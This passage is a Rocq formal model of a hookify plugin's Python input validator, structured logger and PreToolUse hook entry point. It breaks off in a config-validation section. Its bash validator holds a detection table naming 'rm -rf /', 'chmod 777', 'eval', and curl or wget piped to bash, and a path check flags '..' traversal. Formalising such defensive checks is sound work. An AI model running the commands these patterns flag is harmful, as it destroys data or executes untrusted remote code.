(** * Hookify input sanitizer and PreToolUse hook: a shallow embedding

    The development follows two source files of the hookify plugin:

    - [plugins/hookify/utils/validation.py]: the [InputValidator] static
      methods, with their regular expressions;
    - [plugins/hookify/hooks/pretooluse.py]: the [main] entry point, with
      the [StructuredLogger] of [plugins/hookify/utils/logging.py] it calls.

    A Python [str] is modelled as a Rocq [string]; each character stands
    for the code point of the same number, so the model covers the code
    points 0..255.  A Python [int] is a [Z].  Python exceptions are values
    of a result type, threaded through a small state-and-exception monad. *)

From Stdlib Require Import String Ascii List Bool ZArith NArith Lia DecimalString.
Import ListNotations.
Open Scope string_scope.
Open Scope Z_scope.

(** ** Python strings *)

Module PyStr.

(** [len(s)] *)
Definition len (s : string) : Z := Z.of_nat (String.length s).

(** [s.startswith(p)] *)
Definition startswith (s p : string) : bool := String.prefix p s.

(** [needle in hay] for two strings *)
Fixpoint contains (needle hay : string) : bool :=
  if String.prefix needle hay then true
  else match hay with
       | EmptyString => false
       | String _ rest => contains needle rest
       end.

(** truth value of a string: [not s] is [negb (truthy s)] *)
Definition truthy (s : string) : bool :=
  match s with EmptyString => false | String _ _ => true end.

(** the decimal rendering an f-string gives an [int] *)
Definition str_of_int (z : Z) : string := NilZero.string_of_int (Z.to_int z).

Definition code (c : ascii) : N := N_of_ascii c.

Definition between (lo hi n : N) : bool := ((lo <=? n) && (n <=? hi))%N.

(** [str.isspace] on the code points 0..255: the white space of [\s]. *)
Definition isspace (c : ascii) : bool :=
  let n := code c in
  between 9 13 n || between 28 32 n || (n =? 133)%N || (n =? 160)%N.

(** The word characters of [\w] and [\b] on the code points 0..255:
    [str.isalnum] or the underscore. *)
Definition isword (c : ascii) : bool :=
  let n := code c in
  between 48 57 n || between 65 90 n || (n =? 95)%N || between 97 122 n
  || (n =? 170)%N || between 178 179 n || (n =? 181)%N || between 185 186 n
  || between 188 190 n || between 192 214 n || between 216 246 n
  || between 248 255 n.

(** Simple lower-casing on the code points 0..255. *)
Definition tolower (c : ascii) : ascii :=
  let n := code c in
  if between 65 90 n || (between 192 222 n && negb (n =? 215)%N)
  then ascii_of_N (n + 32) else c.

(** [s.lower()] *)
Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest => String (tolower c) (lower rest)
  end.

End PyStr.

(** ** Regular expressions

    The patterns of the source are written as syntax trees; [search] is
    [re.search], deciding whether some substring matches. *)

Module Re.

Inductive regex : Type :=
| Eps                                  (* the empty pattern *)
| Lit (c : ascii)                      (* a literal or escaped character *)
| Dot                                  (* [.]: anything but a newline *)
| Space                                (* [\s] *)
| WordB                                (* [\b] *)
| Cat (r1 r2 : regex)
| Alt (r1 r2 : regex)                  (* [r1|r2] *)
| Rep (min : nat) (r : regex).         (* [r{min,}]; [*] is 0, [+] is 1 *)

Definition Star := Rep 0.
Definition Plus := Rep 1.

(** the literal characters of [s] in sequence *)
Fixpoint lits (s : string) : regex :=
  match s with
  | EmptyString => Eps
  | String c EmptyString => Lit c
  | String c rest => Cat (Lit c) (lits rest)
  end.

Fixpoint seq (rs : list regex) : regex :=
  match rs with
  | [] => Eps
  | [r] => r
  | r :: rest => Cat r (seq rest)
  end.

Definition newline : ascii := ascii_of_N 10.

Definition word_before (prev : option ascii) : bool :=
  match prev with Some c => PyStr.isword c | None => false end.

Definition word_here (s : string) : bool :=
  match s with String c _ => PyStr.isword c | EmptyString => false end.

Section Matcher.

(** the flag [re.IGNORECASE] *)
Variable ignorecase : bool.

Definition lit_eqb (c x : ascii) : bool :=
  if ignorecase
  then Ascii.eqb (PyStr.tolower x) (PyStr.tolower c)
  else Ascii.eqb x c.

(** Repetition of a body [body], followed by [k]. *)
Section Repeat.

Variable body :
  option ascii -> string -> (option ascii -> string -> bool) -> bool.
Variable k : option ascii -> string -> bool.

(** zero or more times; an iteration that consumes nothing is not
    taken, so [fuel] as long as the text is enough *)
Fixpoint star (fuel : nat) (p : option ascii) (t : string) : bool :=
  if k p t then true
  else match fuel with
       | O => false
       | S fuel' =>
           body p t
             (fun p' t' =>
                if (String.length t' <? String.length t)%nat
                then star fuel' p' t'
                else false)
       end.

(** [n] times, then zero or more times *)
Fixpoint at_least (n : nat) (p : option ascii) (t : string) : bool :=
  match n with
  | O => star (String.length t) p t
  | S n' => body p t (at_least n')
  end.

End Repeat.

(** [matches r prev s k]: [r] matches a prefix of [s], the character
    before [s] being [prev], and the continuation [k] accepts what
    follows. *)
Fixpoint matches (r : regex) (prev : option ascii) (s : string)
         (k : option ascii -> string -> bool) {struct r} : bool :=
  match r with
  | Eps => k prev s
  | Lit c =>
      match s with
      | String x rest => if lit_eqb c x then k (Some x) rest else false
      | EmptyString => false
      end
  | Dot =>
      match s with
      | String x rest => if Ascii.eqb x newline then false else k (Some x) rest
      | EmptyString => false
      end
  | Space =>
      match s with
      | String x rest => if PyStr.isspace x then k (Some x) rest else false
      | EmptyString => false
      end
  | WordB =>
      if Bool.eqb (word_before prev) (word_here s) then false else k prev s
  | Cat r1 r2 => matches r1 prev s (fun p t => matches r2 p t k)
  | Alt r1 r2 => if matches r1 prev s k then true else matches r2 prev s k
  | Rep min r1 => at_least (matches r1) k min prev s
  end.

Definition accept : option ascii -> string -> bool := fun _ _ => true.

Fixpoint search_from (r : regex) (prev : option ascii) (s : string) : bool :=
  if matches r prev s accept then true
  else match s with
       | EmptyString => false
       | String x rest => search_from r (Some x) rest
       end.

(** [re.search(r, s, flags) is not None] *)
Definition search (r : regex) (s : string) : bool := search_from r None s.

End Matcher.

End Re.

(** ** Exceptions and the state-and-exception monad *)

Inductive exn_class : Type :=
| ReError              (* re.error *)
| OverflowError
| RecursionError
| TypeError
| AttributeError
| JSONDecodeError
| FileNotFoundError
| PermissionError
| OtherException (name : string)   (* any other subclass of Exception *)
| KeyboardInterrupt                (* a BaseException that is no Exception *)
| SystemExit (code : Z).

Record exn : Type := Exn { exn_cls : exn_class; exn_msg : string }.

(** [type(e).__name__] *)
Definition class_name (c : exn_class) : string :=
  match c with
  | ReError => "error"
  | OverflowError => "OverflowError"
  | RecursionError => "RecursionError"
  | TypeError => "TypeError"
  | AttributeError => "AttributeError"
  | JSONDecodeError => "JSONDecodeError"
  | FileNotFoundError => "FileNotFoundError"
  | PermissionError => "PermissionError"
  | OtherException name => name
  | KeyboardInterrupt => "KeyboardInterrupt"
  | SystemExit _ => "SystemExit"
  end.

(** [isinstance(e, Exception)] *)
Definition is_Exception (e : exn) : bool :=
  match exn_cls e with
  | KeyboardInterrupt | SystemExit _ => false
  | _ => true
  end.

Definition is_class (c : exn_class) (e : exn) : bool :=
  match c, exn_cls e with
  | ReError, ReError
  | OverflowError, OverflowError
  | RecursionError, RecursionError
  | TypeError, TypeError
  | AttributeError, AttributeError
  | JSONDecodeError, JSONDecodeError
  | FileNotFoundError, FileNotFoundError
  | PermissionError, PermissionError => true
  | _, _ => false
  end.

Inductive result (A : Type) : Type :=
| Ret (a : A)
| Raise (e : exn).
Arguments Ret {A} a.
Arguments Raise {A} e.

Module Py.

Section Monad.
Context {S : Type}.

Definition M (A : Type) : Type := S -> result A * S.

Definition ret {A} (a : A) : M A := fun s => (Ret a, s).

Definition raise {A} (e : exn) : M A := fun s => (Raise e, s).

Definition bind {A B} (m : M A) (f : A -> M B) : M B :=
  fun s =>
    match m s with
    | (Ret a, s') => f a s'
    | (Raise e, s') => (Raise e, s')
    end.

(** an outcome computed outside the state, such as a library call *)
Definition lift {A} (r : result A) : M A := fun s => (r, s).

(** [if b: body] *)
Definition when (b : bool) (body : M unit) : M unit :=
  if b then body else ret tt.

(** [try: body] followed by [except] clauses, tried in order; an
    exception raised inside a handler is not caught by the others. *)
Fixpoint dispatch {A} (handlers : list ((exn -> bool) * (exn -> M A)))
         (e : exn) : M A :=
  match handlers with
  | [] => raise e
  | (catches, handler) :: rest =>
      if catches e then handler e else dispatch rest e
  end.

Definition try_except {A} (body : M A)
           (handlers : list ((exn -> bool) * (exn -> M A))) : M A :=
  fun s =>
    match body s with
    | (Ret a, s') => (Ret a, s')
    | (Raise e, s') => dispatch handlers e s'
    end.

(** [try: body finally: final]; an exception of [final] replaces the
    outcome of [body]. *)
Definition try_finally {A} (body : M A) (final : M unit) : M A :=
  fun s =>
    match body s with
    | (r, s') =>
        match final s' with
        | (Ret _, s'') => (r, s'')
        | (Raise e, s'') => (Raise e, s'')
        end
    end.

(** [for x in xs: body x] *)
Fixpoint for_each {A} (xs : list A) (body : A -> M unit) : M unit :=
  match xs with
  | [] => ret tt
  | x :: rest => bind (body x) (fun _ => for_each rest body)
  end.

End Monad.

Arguments M : clear implicits.

End Py.

Declare Scope py_scope.
Delimit Scope py_scope with py.
Notation "x <- m ;; k" := (Py.bind m (fun x => k))
  (at level 61, m at next level, right associativity) : py_scope.
Notation "m ;; k" := (Py.bind m (fun _ => k))
  (at level 61, right associativity) : py_scope.

(** ** validation.py *)

Record ValidationError : Type := mkValidationError {
  field : string;
  message : string;
  severity : string   (* "error", "warning" *)
}.

(** The list objects of a run: [errors = []] allocates a new one, and a
    reference is its index. *)
Definition heap : Type := list (list ValidationError).
Definition ref : Type := nat.

Definition new_list : Py.M heap ref :=
  fun h => (Ret (List.length h), (h ++ [[]])%list).

Fixpoint update (r : ref) (f : list ValidationError -> list ValidationError)
         (h : heap) : heap :=
  match h, r with
  | [], _ => []
  | l :: rest, O => f l :: rest
  | l :: rest, S r' => l :: update r' f rest
  end.

(** [errors.append(x)] *)
Definition append (r : ref) (x : ValidationError) : Py.M heap unit :=
  fun h => (Ret tt, update r (fun l => (l ++ [x])%list) h).

Definition deref (r : ref) (h : heap) : list ValidationError := nth r h [].

(** What a caller gets from a method called in a fresh run: the contents
    of the returned list, or the exception that escaped. *)
Definition call (m : Py.M heap ref) : result (list ValidationError) :=
  match m [] with
  | (Ret r, h) => Ret (deref r h)
  | (Raise e, _) => Raise e
  end.

Module InputValidator.

Import Re.
Local Open Scope py_scope.

Definition MAX_REGEX_LENGTH : Z := 500.
Definition MAX_COMMAND_LENGTH : Z := 10000.
Definition MAX_FILE_PATH_LENGTH : Z := 4096.
Definition MAX_TEXT_LENGTH : Z := 1000000.

Definition validate_file_path (path : string) : Py.M heap ref :=
  errors <- new_list ;;
  if negb (PyStr.truthy path) then
    append errors
      (mkValidationError "file_path" "File path cannot be empty" "error") ;;
    Py.ret errors
  else
    Py.when (MAX_FILE_PATH_LENGTH <? PyStr.len path)
      (append errors
         (mkValidationError "file_path"
            ("File path exceeds maximum length of "
             ++ PyStr.str_of_int MAX_FILE_PATH_LENGTH)
            "error")) ;;
    Py.when (PyStr.contains ".." path)
      (append errors
         (mkValidationError "file_path" "Path traversal detected (..)"
            "error")) ;;
    Py.when (PyStr.startswith path "/"
             && negb (PyStr.startswith path "/workspace"))
      (append errors
         (mkValidationError "file_path" "Absolute path outside workspace"
            "warning")) ;;
    Py.ret errors.

(** the table of [validate_bash_command], a pattern and its description *)
Definition dangerous_patterns : list (regex * string) :=
  [ (seq [WordB; lits "rm"; Plus Space; lits "-rf"; Plus Space; Lit "/"],
     "Recursive force delete from root");
    (seq [WordB; lits "chmod"; Plus Space; lits "777"],
     "Overly permissive file permissions");
    (seq [WordB; lits "eval"; Plus Space],
     "Arbitrary code execution via eval");
    (seq [WordB; lits "curl"; Plus Space; Star Dot; Lit "|"; Star Space;
          lits "bash"],
     "Piping remote scripts to bash");
    (seq [WordB; lits "wget"; Plus Space; Star Dot; Lit "|"; Star Space;
          lits "bash"],
     "Piping remote scripts to bash") ].

Definition validate_bash_command (command : string) : Py.M heap ref :=
  errors <- new_list ;;
  if negb (PyStr.truthy command) then
    Py.ret errors
  else
    Py.when (MAX_COMMAND_LENGTH <? PyStr.len command)
      (append errors
         (mkValidationError "command"
            ("Command exceeds maximum length of "
             ++ PyStr.str_of_int MAX_COMMAND_LENGTH)
            "error")) ;;
    Py.for_each dangerous_patterns
      (fun '(pattern, description) =>
         Py.when (search true pattern command)
           (append errors
              (mkValidationError "command"
                 ("Dangerous pattern detected: " ++ description)
                 "warning"))) ;;
    Py.ret errors.

(** The pattern of the catastrophic-backtracking check.  Its first
    alternative is a group, an escaped dot and an escaped star, under
    the quantifier "two or more"; its second alternative is an escaped
    opening parenthesis, an escaped dot, an escaped plus and an escaped
    closing parenthesis, and the quantifier "two or more" follows that
    last character alone. *)
Definition backtracking_pattern : regex :=
  Alt (Rep 2 (Cat (Lit ".") (Lit "*")))
      (seq [Lit "("; Lit "."; Lit "+"; Rep 2 (Lit ")")]).

Section RegexPattern.

(** [re.compile] of the Python library at the time of one call, as the
    outcome of compiling a pattern: success, a [re.error], or another
    exception.  The outcome is no function of the pattern alone, it
    depends on the interpreter too (the depth of the call stack, the
    cache of [re]): two calls of the method are two instances, each with
    the function of its time. *)
Variable re_compile : string -> result unit.

Definition validate_regex_pattern (pattern : string) : Py.M heap ref :=
  errors <- new_list ;;
  if negb (PyStr.truthy pattern) then
    Py.ret errors
  else
    Py.when (MAX_REGEX_LENGTH <? PyStr.len pattern)
      (append errors
         (mkValidationError "pattern"
            ("Regex pattern exceeds maximum length of "
             ++ PyStr.str_of_int MAX_REGEX_LENGTH)
            "error")) ;;
    Py.try_except (Py.lift (re_compile pattern))
      [ (is_class ReError,
         fun e =>
           append errors
             (mkValidationError "pattern"
                ("Invalid regex pattern: " ++ exn_msg e) "error")) ] ;;
    Py.when (search false backtracking_pattern pattern)
      (append errors
         (mkValidationError "pattern"
            "Pattern may cause catastrophic backtracking" "warning")) ;;
    Py.ret errors.

End RegexPattern.

Definition validate_text_length (text : string) (field_name : string)
  : Py.M heap ref :=
  errors <- new_list ;;
  Py.when (MAX_TEXT_LENGTH <? PyStr.len text)
    (append errors
       (mkValidationError field_name
          ("Text exceeds maximum length of "
           ++ PyStr.str_of_int MAX_TEXT_LENGTH)
          "error")) ;;
  Py.ret errors.

(** the default of [field_name] *)
Definition validate_text_length_default (text : string) : Py.M heap ref :=
  validate_text_length text "text".

End InputValidator.

(** ** JSON values

    What [json.load] returns and [json.dumps] takes.  Numbers are
    integers here. *)

#[warnings="-register-all"]
Inductive json : Type :=
| JNull
| JBool (b : bool)
| JInt (z : Z)
| JStr (s : string)
| JList (items : list json)
| JDict (entries : list (string * json)).

Module Json.

(** the truth value of a Python object *)
Definition truthy (v : json) : bool :=
  match v with
  | JNull => false
  | JBool b => b
  | JInt z => negb (z =? 0)
  | JStr s => PyStr.truthy s
  | JList items => match items with [] => false | _ => true end
  | JDict entries => match entries with [] => false | _ => true end
  end.

Fixpoint lookup (key : string) (entries : list (string * json))
  : option json :=
  match entries with
  | [] => None
  | (k, v) :: rest => if String.eqb k key then Some v else lookup key rest
  end.

(** [type(v).__name__] *)
Definition type_name (v : json) : string :=
  match v with
  | JNull => "NoneType"
  | JBool _ => "bool"
  | JInt _ => "int"
  | JStr _ => "str"
  | JList _ => "list"
  | JDict _ => "dict"
  end.

(** [v == s] for a string [s] *)
Definition eq_str (v : json) (s : string) : bool :=
  match v with JStr t => String.eqb t s | _ => false end.

(** [v.get(key, default)]; only a dict has the method. *)
Definition get {S} (v : json) (key : string) (default : json)
  : Py.M S json :=
  match v with
  | JDict entries =>
      Py.ret (match lookup key entries with Some x => x | None => default end)
  | _ =>
      Py.raise
        (Exn AttributeError
           ("'" ++ type_name v ++ "' object has no attribute 'get'"))
  end.

(** [key in v] for a string [key]: the keys of a dict, the substrings of
    a string, the items of a list; the other values are not containers. *)
Definition contains {S} (key : string) (v : json) : Py.M S bool :=
  match v with
  | JDict entries =>
      Py.ret (match lookup key entries with Some _ => true | None => false end)
  | JStr s => Py.ret (PyStr.contains key s)
  | JList items => Py.ret (existsb (fun x => eq_str x key) items)
  | _ =>
      Py.raise
        (Exn TypeError
           ("argument of type '" ++ type_name v ++ "' is not iterable"))
  end.

End Json.

(** ** logging.py and pretooluse.py *)

(** The streams of the process, and the number of clock readings made. *)
Record world : Type := mkWorld {
  stdout : list json;    (* the values printed through [json.dumps] *)
  stderr : list json;
  ticks : nat
}.

Definition print_stdout (v : json) : Py.M world unit :=
  fun w => (Ret tt, mkWorld (stdout w ++ [v])%list (stderr w) (ticks w)).

Definition print_stderr (v : json) : Py.M world unit :=
  fun w => (Ret tt, mkWorld (stdout w) (stderr w ++ [v])%list (ticks w)).

Inductive LogLevel : Type := DEBUG | INFO | WARNING | ERROR | CRITICAL.

Module StructuredLogger.

Local Open Scope py_scope.

Definition value (level : LogLevel) : string :=
  match level with
  | DEBUG => "DEBUG"
  | INFO => "INFO"
  | WARNING => "WARNING"
  | ERROR => "ERROR"
  | CRITICAL => "CRITICAL"
  end.

Definition level_order (level : LogLevel) : Z :=
  match level with
  | DEBUG => 0
  | INFO => 1
  | WARNING => 2
  | ERROR => 3
  | CRITICAL => 4
  end.

Section Logger.

(** [datetime.utcnow().isoformat()] at the n-th reading of the clock *)
Variable utcnow : nat -> string.

Variable component : string.
Variable min_level : LogLevel.

Definition _should_log (level : LogLevel) : bool :=
  level_order min_level <=? level_order level.

Definition read_clock : Py.M world string :=
  fun w => (Ret (utcnow (ticks w)),
            mkWorld (stdout w) (stderr w) (Datatypes.S (ticks w))).

Definition _log (level : LogLevel) (message : string)
           (context : option json) (error : option exn)
  : Py.M world unit :=
  if negb (_should_log level) then Py.ret tt
  else
    now <- read_clock ;;
    let log_entry :=
      [ ("timestamp", JStr (now ++ "Z"));
        ("level", JStr (value level));
        ("component", JStr component);
        ("message", JStr message) ] in
    let log_entry :=
      match context with
      | Some c =>
          if Json.truthy c then (log_entry ++ [("context", c)])%list
          else log_entry
      | None => log_entry
      end in
    let log_entry :=
      match error with
      | Some e =>
          (log_entry
           ++ [("error",
                JDict [ ("type", JStr (class_name (exn_cls e)));
                        ("message", JStr (exn_msg e)) ])])%list
      | None => log_entry
      end in
    print_stderr (JDict log_entry).

(** Binding the keyword arguments of a call: a keyword that is no
    parameter of the method raises [TypeError]. *)
Definition bind_keywords (method : string) (params : list string)
           (keywords : list (string * exn)) : Py.M world unit :=
  match find (fun kw => negb (existsb (String.eqb (fst kw)) params))
             keywords with
  | Some (name, _) =>
      Py.raise
        (Exn TypeError
           ("StructuredLogger." ++ method
            ++ "() got an unexpected keyword argument '" ++ name ++ "'"))
  | None => Py.ret tt
  end.

Definition keyword (name : string) (keywords : list (string * exn))
  : option exn :=
  match find (fun kw => String.eqb (fst kw) name) keywords with
  | Some (_, e) => Some e
  | None => None
  end.

(** [def debug(self, message, context=None)] *)
Definition debug (message : string) (context : option json)
           (keywords : list (string * exn)) : Py.M world unit :=
  bind_keywords "debug" ["message"; "context"] keywords ;;
  _log DEBUG message context None.

(** [def info(self, message, context=None)] *)
Definition info (message : string) (context : option json)
           (keywords : list (string * exn)) : Py.M world unit :=
  bind_keywords "info" ["message"; "context"] keywords ;;
  _log INFO message context None.

(** [def warning(self, message, context=None)] *)
Definition warning (message : string) (context : option json)
           (keywords : list (string * exn)) : Py.M world unit :=
  bind_keywords "warning" ["message"; "context"] keywords ;;
  _log WARNING message context None.

(** [def error(self, message, context=None, error=None)] *)
Definition error (message : string) (context : option json)
           (keywords : list (string * exn)) : Py.M world unit :=
  bind_keywords "error" ["message"; "context"; "error"] keywords ;;
  _log ERROR message context (keyword "error" keywords).

(** [def critical(self, message, context=None, error=None)] *)
Definition critical (message : string) (context : option json)
           (keywords : list (string * exn)) : Py.M world unit :=
  bind_keywords "critical" ["message"; "context"; "error"] keywords ;;
  _log CRITICAL message context (keyword "error" keywords).

End Logger.

End StructuredLogger.

Module PreToolUse.

Local Open Scope py_scope.

(** [sys.exit(code)] *)
Definition sys_exit {A} (code : Z) : Py.M world A :=
  Py.raise (Exn (SystemExit code) "").

Section Hook.

(** The collaborators of [main] that are not part of these files, each
    as the outcome of its call: [json.load(sys.stdin)], and
    [load_rules] and [RuleEngine.evaluate_rules] of [hookify.core]. *)
Variable Rule : Type.
Variable json_load_stdin : result json.
Variable load_rules : option string -> result (list Rule).
Variable evaluate_rules : list Rule -> json -> result json.
Variable utcnow : nat -> string.

(** [logger = StructuredLogger("pretooluse", min_level=LogLevel.INFO)] *)
Definition logger_debug := StructuredLogger.debug utcnow "pretooluse" INFO.
Definition logger_info := StructuredLogger.info utcnow "pretooluse" INFO.
Definition logger_warning :=
  StructuredLogger.warning utcnow "pretooluse" INFO.
Definition logger_error := StructuredLogger.error utcnow "pretooluse" INFO.
Definition logger_critical :=
  StructuredLogger.critical utcnow "pretooluse" INFO.

(** the body of the [try] statement *)
Definition main_body : Py.M world unit :=
  input_data <- Py.lift json_load_stdin ;;
  name <- Json.get input_data "tool_name" JNull ;;
  logger_debug "PreToolUse hook triggered"
    (Some (JDict [("tool_name", name)])) [] ;;
  tool_name <- Json.get input_data "tool_name" (JStr "") ;;
  let event :=
    if Json.eq_str tool_name "Bash" then Some "bash"
    else if existsb (Json.eq_str tool_name) ["Edit"; "Write"; "MultiEdit"]
         then Some "file"
         else None in
  rules <- Py.lift (load_rules event) ;;
  logger_debug "Rules loaded"
    (Some (JDict [ ("count", JInt (Z.of_nat (List.length rules)));
                   ("event", match event with
                             | Some e => JStr e
                             | None => JNull
                             end) ])) [] ;;
  result <- Py.lift (evaluate_rules rules input_data) ;;
  print_stdout result ;;
  if Json.truthy result then
    has_block <- Json.contains "hookSpecificOutput" result ;;
    has_message <- Json.contains "systemMessage" result ;;
    has_warning <-
      (if has_message
       then b <- Json.contains "hookSpecificOutput" result ;;
            Py.ret (negb b)
       else Py.ret false) ;;
    logger_info "Hook matched rules"
      (Some (JDict [ ("has_block", JBool has_block);
                     ("has_warning", JBool has_warning) ])) []
  else Py.ret tt.

Definition main : Py.M world unit :=
  Py.try_finally
    (Py.try_except main_body
       [ (is_class JSONDecodeError,
          fun e =>
            logger_error "Failed to parse hook input JSON" None
              [("error", e)] ;;
            print_stdout
              (JDict [("systemMessage",
                       JStr "Hookify error: Invalid JSON input")]));
         (is_class FileNotFoundError,
          fun e =>
            logger_warning "Configuration file not found" None
              [("error", e)] ;;
            print_stdout (JDict []));
         (is_class PermissionError,
          fun e =>
            logger_error "Permission denied reading configuration" None
              [("error", e)] ;;
            print_stdout
              (JDict [("systemMessage",
                       JStr "Hookify error: Permission denied")]));
         (is_Exception,
          fun e =>
            logger_critical "Unexpected error in PreToolUse hook" None
              [("error", e)] ;;
            print_stdout
              (JDict [("systemMessage",
                       JStr ("Hookify error: " ++ exn_msg e))])) ])
    (sys_exit 0).

Definition initial_world : world := mkWorld [] [] 0.

(** The exit status of the process that runs [main()] as its last
    statement: the code of a [SystemExit], 1 for another exception. *)
Definition exit_status (r : result unit) : Z :=
  match r with
  | Ret _ => 0
  | Raise e =>
      match exn_cls e with
      | SystemExit code => code
      | _ => 1
      end
  end.

Definition run_main : Z * world :=
  let (r, w) := main initial_world in (exit_status r, w).

End Hook.

End PreToolUse.

(** * Vocabulary of the properties *)

Local Open Scope list_scope.

(** the entry a guarded [append] adds *)
Definition opt {A} (b : bool) (x : A) : list A := if b then [x] else [].

(** What a method does in a run whose list objects are [h]: the contents
    of the list it returns, or the exception. *)
Definition outcome_in (m : Py.M heap ref) (h : heap)
  : result (list ValidationError) :=
  match m h with
  | (Ret r, h') => Ret (deref r h')
  | (Raise e, _) => Raise e
  end.

(** the list objects a run leaves behind *)
Definition heap_after (m : Py.M heap ref) (h : heap) : heap := snd (m h).

(** [returns m l]: in every run, [m] allocates one list, fills it with [l]
    and returns it, touching no other list. *)
Definition returns (m : Py.M heap ref) (l : list ValidationError) : Prop :=
  forall h, m h = (Ret (length h), h ++ [l]).

(** [raises m e]: in every run, [m] lets [e] escape. *)
Definition raises (m : Py.M heap ref) (e : exn) : Prop :=
  forall h, exists l, m h = (Raise e, h ++ [l]).

(** [pure_method m]: what [m] gives its caller is the same in every run,
    whatever lists earlier calls have left, and [m] changes none of those
    lists. *)
Definition pure_method (m : Py.M heap ref) : Prop :=
  (forall h1 h2, outcome_in m h1 = outcome_in m h2)
  /\ (forall h, outcome_in m h = call m)
  /\ (forall h, firstn (length h) (heap_after m h) = h).

(** ** The entries of the validators *)

Module Entry.

Import InputValidator.
Local Open Scope string_scope.

Definition empty_path : ValidationError :=
  mkValidationError "file_path" "File path cannot be empty" "error".

Definition path_length : ValidationError :=
  mkValidationError "file_path"
    "File path exceeds maximum length of 4096" "error".

Definition traversal : ValidationError :=
  mkValidationError "file_path" "Path traversal detected (..)" "error".

Definition outside_workspace : ValidationError :=
  mkValidationError "file_path" "Absolute path outside workspace" "warning".

Definition command_length : ValidationError :=
  mkValidationError "command" "Command exceeds maximum length of 10000"
    "error".

Definition dangerous (description : string) : ValidationError :=
  mkValidationError "command"
    ("Dangerous pattern detected: " ++ description) "warning".

Definition regex_length : ValidationError :=
  mkValidationError "pattern"
    "Regex pattern exceeds maximum length of 500" "error".

Definition invalid_regex (e : exn) : ValidationError :=
  mkValidationError "pattern" ("Invalid regex pattern: " ++ exn_msg e)
    "error".

Definition backtracking : ValidationError :=
  mkValidationError "pattern" "Pattern may cause catastrophic backtracking"
    "warning".

Definition text_length (field_name : string) : ValidationError :=
  mkValidationError field_name "Text exceeds maximum length of 1000000"
    "error".

End Entry.

(** ** The list each validator builds, as a function of its argument *)

Module Builds.

Import InputValidator.

Definition outside (path : string) : bool :=
  PyStr.startswith path "/" && negb (PyStr.startswith path "/workspace").

Definition file_path_errors (path : string) : list ValidationError :=
  if PyStr.truthy path then
    opt (MAX_FILE_PATH_LENGTH <? PyStr.len path) Entry.path_length
    ++ opt (PyStr.contains ".." path) Entry.traversal
    ++ opt (outside path) Entry.outside_workspace
  else [Entry.empty_path].

Definition flags (command : string) (table : list (Re.regex * string))
  : list ValidationError :=
  flat_map
    (fun entry =>
       opt (Re.search true (fst entry) command) (Entry.dangerous (snd entry)))
    table.

Definition bash_command_errors (command : string) : list ValidationError :=
  if PyStr.truthy command then
    opt (MAX_COMMAND_LENGTH <? PyStr.len command) Entry.command_length
    ++ flags command dangerous_patterns
  else [].

Definition text_length_errors (text field_name : string)
  : list ValidationError :=
  opt (MAX_TEXT_LENGTH <? PyStr.len text) (Entry.text_length field_name).

Section RegexPattern.

Variable re_compile : string -> result unit.

(** the exception [validate_regex_pattern] lets through, if any *)
Definition escapes (pattern : string) : option exn :=
  if PyStr.truthy pattern then
    match re_compile pattern with
    | Ret _ => None
    | Raise e => if is_class ReError e then None else Some e
    end
  else None.

Definition compile_errors (pattern : string) : list ValidationError :=
  match re_compile pattern with
  | Ret _ => []
  | Raise e => opt (is_class ReError e) (Entry.invalid_regex e)
  end.

Definition regex_pattern_errors (pattern : string) : list ValidationError :=
  if PyStr.truthy pattern then
    opt (MAX_REGEX_LENGTH <? PyStr.len pattern) Entry.regex_length
    ++ compile_errors pattern
    ++ opt (Re.search false backtracking_pattern pattern) Entry.backtracking
  else [].

End RegexPattern.

End Builds.

(** ** Case folding *)

Definition fold_prev (prev : option ascii) : option ascii :=
  option_map PyStr.tolower prev.

(** every literal of the pattern is its own lower case *)
Fixpoint lowercase_lits (r : Re.regex) : bool :=
  match r with
  | Re.Lit c => Ascii.eqb (PyStr.tolower c) c
  | Re.Cat r1 r2 | Re.Alt r1 r2 => lowercase_lits r1 && lowercase_lits r2
  | Re.Rep _ r1 => lowercase_lits r1
  | _ => true
  end.

(** [k'] does on the folded text what [k] does on the text *)
Definition cont_fold (k k' : option ascii -> string -> bool) : Prop :=
  forall p t, k p t = k' (fold_prev p) (PyStr.lower t).

(** ** Examples of compilation

    What [re.compile] of CPython 3.11 answers on the patterns of the
    examples below: a repetition count of 4294967295 raises
    [OverflowError], which is no [re.error]; an unbalanced parenthesis
    raises [re.error]; the other patterns used below compile. *)
Definition re_compile_examples (pattern : string) : result unit :=
  if String.eqb pattern "a{4294967295}" then
    Raise (Exn OverflowError "the repetition number is too large")
  else if String.eqb pattern "(.+))" then
    Raise (Exn ReError "unbalanced parenthesis at position 4")
  else Ret tt.

(** The words of the specification for the backtracking check, "rapid
    repetition of match-anything groups": two match-anything groups in a
    row, the group being a starred dot or a parenthesised dot-plus. *)
Definition spec_rapid_repetition (pattern : string) : bool :=
  PyStr.contains ".*.*" pattern || PyStr.contains "(.+)(.+)" pattern.

(** [n] times the letter "a" *)
Definition filler (n : N) : string :=
  string_of_list_ascii (repeat "a"%char (N.to_nat n)).

Definition example_now (n : nat) : string := "2024-01-01T00:00:00".

(** * More of the code *)

(** ** config_validation.py

    The checks read the process environment and the file system; both are
    parameters: [environ] is [os.environ.get], [isdir], [isfile] and
    [access_x] are [os.path.isdir], [os.path.isfile] and
    [os.access(_, os.X_OK)].  Each local list [errors] is built by a loop
    that appends under a condition, written here as the list of the
    entries appended, in order. *)

Module ConfigValidator.

Local Open Scope string_scope.

Record ConfigError : Type := mkConfigError {
  setting : string;
  message : string;
  severity : string;    (* "critical", "error", "warning" *)
  resolution : string   (* how to fix *)
}.

(** [s.endswith(p)] for a one-character [p] *)
Fixpoint ends_with_char (s : string) (c : ascii) : bool :=
  match s with
  | EmptyString => false
  | String x EmptyString => Ascii.eqb x c
  | String _ rest => ends_with_char rest c
  end.

(** [os.path.join(a, b)] of [posixpath] *)
Definition path_join (a b : string) : string :=
  if PyStr.startswith b "/" then b
  else if negb (PyStr.truthy a) || ends_with_char a "/" then a ++ b
       else a ++ "/" ++ b.

(** the truth value of what [os.environ.get] returns *)
Definition env_truthy (v : option string) : bool :=
  match v with
  | Some s => PyStr.truthy s
  | None => false
  end.

Definition REQUIRED_ENV_VARS : list string := [].

Definition RECOMMENDED_ENV_VARS : list (string * string) :=
  [ ("CLAUDE_PLUGIN_ROOT", "Required for Python imports to work correctly") ].

Definition required_dirs : list string := ["core"; "hooks"; "utils"].

Definition required_files : list string :=
